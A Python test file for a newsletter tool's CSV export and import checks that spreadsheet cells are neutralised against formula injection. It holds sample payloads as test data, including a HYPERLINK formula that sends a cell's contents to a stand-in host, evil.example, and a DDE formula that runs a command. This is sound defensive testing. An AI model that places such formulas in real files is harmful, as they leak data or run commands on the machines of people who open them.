"""CSV injection: no cell the tool writes starts a formula, and an export imports back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from newsletter.audience import csv_cells, lists, roster
from newsletter.audience.csv_export import export_csv
from newsletter.audience.csv_import import ImportOptions, import_csv
from newsletter.core import db
from newsletter.core.config import load_config
from newsletter.core.models import MailingList, Subscriber
from tests.conftest import write_config
from tests.plugins.audience import AUDIENCE_NOW, AUDIENCE_SECRET

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"x")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = (HYPERLINK, DDE, "@SUM(1+1)", "+1", "-1")
STARTS = tuple(csv_cells.TRIGGERS)


def _cells(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f, delimiter=delimiter))


def _add_formula_people(session: Session) -> None:
    for number, formula in enumerate(FORMULAS):
        roster.add(
            session, AUDIENCE_SECRET, f"kisi{number}@example.org", AUDIENCE_NOW, name=formula,
            organisation=formula, attributes={"not": formula, "=kolon": "x"},
            list_slugs=["aylik-tr"], consent_source="paper form",
        )  # fmt: skip


def _stored(session: Session) -> list[tuple]:
    found = session.exec(select(Subscriber).order_by(Subscriber.email))
    return [(s.email, s.name, s.organisation, s.attributes) for s in found]


@pytest.mark.parametrize(("excel", "delimiter"), [(False, ","), (True, ";")])
def test_export_writes_no_live_formula(
    session: Session, double_list: MailingList, tmp_path: Path, excel: bool, delimiter: str
) -> None:
    _add_formula_people(session)
    out = tmp_path / "out.csv"
    assert export_csv(session, out, "aylik-tr", excel=excel) == len(FORMULAS)
    rows = _cells(out, delimiter)
    assert rows[0] == ["email", "name", "language", "organisation", "'=kolon", "not"]
    for row in rows:
        assert not [cell for cell in row if cell.startswith(STARTS)], row
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + formula for formula in FORMULAS}


@pytest.mark.parametrize("excel", [False, True])
def test_export_imports_back_unchanged(session: Session, tmp_path: Path, excel: bool) -> None:
    lists.create(session, "aylik-tr", "Aylık", AUDIENCE_NOW, default_language="tr")
    _add_formula_people(session)
    roster.add(
        session, AUDIENCE_SECRET, "tel@example.org", AUDIENCE_NOW, name="'=already quoted",
        organisation="-", attributes={"telefon": "+90 312 000 00 00", "not": "'quote only"},
        list_slugs=["aylik-tr"], consent_source="paper form",
    )  # fmt: skip
    exported = tmp_path / "export.csv"
    export_csv(session, exported, "aylik-tr", excel=excel)
    folder = tmp_path / "second"
    folder.mkdir()
    engine: Engine = db.make_engine(load_config(write_config(folder)))
    db.upgrade(engine)
    with db.session_scope(engine) as other:
        lists.create(other, "aylik-tr", "Aylık", AUDIENCE_NOW, default_language="tr")
        options = ImportOptions("aylik-tr", confirmed=True, consent_source="export")
        report = import_csv(other, AUDIENCE_SECRET, exported, options, AUDIENCE_NOW)
        assert (report.added, report.rejected) == (len(FORMULAS) + 1, 0)
        assert _stored(other) == _stored(session)
        again = tmp_path / "again.csv"
        export_csv(other, again, "aylik-tr", excel=excel)
    engine.dispose()
    assert again.read_bytes() == exported.read_bytes()


def test_import_report_writes_no_live_formula(
    session: Session, double_list: MailingList, tmp_path: Path
) -> None:
    source = tmp_path / "people.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["email", "name"])
        writer.writerows([formula, "Kötü Satır"] for formula in FORMULAS)
    report = import_csv(session, AUDIENCE_SECRET, source, ImportOptions("aylik-tr"), AUDIENCE_NOW)
    assert report.rejected == len(FORMULAS)
    rows = _cells(Path(report.report_file))
    for row in rows:
        assert not [cell for cell in row if cell.startswith(STARTS)], row
    assert [row[1] for row in rows[1:-1]] == ["'" + formula for formula in FORMULAS]


@pytest.mark.parametrize(
    "value", [*FORMULAS, "", "-", "'", "'=", "''+1", "\tx", "\rx", "Ayşe", "a'=b", "'Ayşe"]
)
def test_neutralise_then_restore_gives_the_value_back(value: str) -> None:
    written = csv_cells.neutralise(value)
    assert not written.startswith(STARTS)
    assert csv_cells.restore(written) == value
